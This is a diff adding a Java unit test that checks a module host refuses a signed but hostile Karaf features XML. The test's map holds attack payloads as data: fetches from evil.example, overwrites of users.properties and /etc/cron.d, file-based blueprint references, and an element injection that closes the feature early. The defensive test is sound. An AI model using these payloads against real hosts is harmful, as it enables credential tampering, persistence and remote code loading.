@@ -173,4 +173,42 @@ class ModuleArtifactsTest {
         assertTrue(refused.getMessage().contains("needs host API [2,3), this host offers 1.3.0"), refused.getMessage());
         assertEquals(0, repository.requests("/repository/maven/" + JAR_PATH));
     }
+
+    /**
+     * A features XML the repository should never have released (or released under older rules),
+     * signed and pinned all the same: the host checks it again and installs nothing from it.
+     */
+    @Test
+    void refusesAPinnedFeaturesXmlThatCouldFetchOrWriteOutsideTheTargets() throws Exception {
+        Map<String, String> hostile = new LinkedHashMap<>();
+        hostile.put("<config name=\"be.imio.solutions.courrier\" external=\"true\">http://evil.example/x.cfg</config>",
+                "features_attribute_not_allowed");
+        hostile.put("<configfile finalname=\"${karaf.etc}/users.properties\">" + BUNDLE + "</configfile>",
+                "features_element_not_allowed");
+        hostile.put("<library type=\"boot\">" + BUNDLE + "</library>", "features_element_not_allowed");
+        hostile.put("<bundle>wrap:" + BUNDLE + "</bundle>", "external_reference");
+        hostile.put("<bundle>blueprint:file:/tmp/evil.xml</bundle>", "external_reference");
+        hostile.put("<conditional><condition>scr</condition><configfile finalname=\"/etc/cron.d/x\">" + BUNDLE
+                + "</configfile></conditional>", "features_element_not_allowed");
+        hostile.put("<config name=\"be.imio.platform.host\">repositoryUrl = http://evil.example/</config>",
+                "config_outside_module");
+        hostile.put("</feature><resource-repository>http://evil.example/index.xml</resource-repository>"
+                + "<feature name=\"other\">", "features_element_not_allowed");
+        for (var attack : hostile.entrySet()) {
+            String xml = featuresXml("courrier", "1.0.0", BUNDLE).replace("<feature>scr</feature>", attack.getKey());
+            byte[] bytes = xml.getBytes(StandardCharsets.UTF_8);
+            repository.maven(FEATURES_PATH, bytes);
+            repository.maven(JAR_PATH, JAR);
+            Map<String, Target> targets = new LinkedHashMap<>();
+            targets.put(FEATURES_PATH, target(FEATURES_PATH, bytes, custom("1.0.0")));
+            targets.put(JAR_PATH, target(JAR_PATH, JAR, custom("1.0.0")));
+            cache = new VerifiedCache(Files.createTempDirectory(dir, "verified"));
+
+            ModuleArtifacts.Refused refused = refusedFetch(ModuleRelease.of(targets.get(FEATURES_PATH)), targets);
+
+            assertTrue(refused.getMessage().contains("refused by this host (" + attack.getValue() + ")"),
+                    attack.getKey() + ": " + refused.getMessage());
+            assertEquals(0, repository.requests("/repository/maven/" + JAR_PATH), "nothing more is downloaded");
+        }
+    }
 }
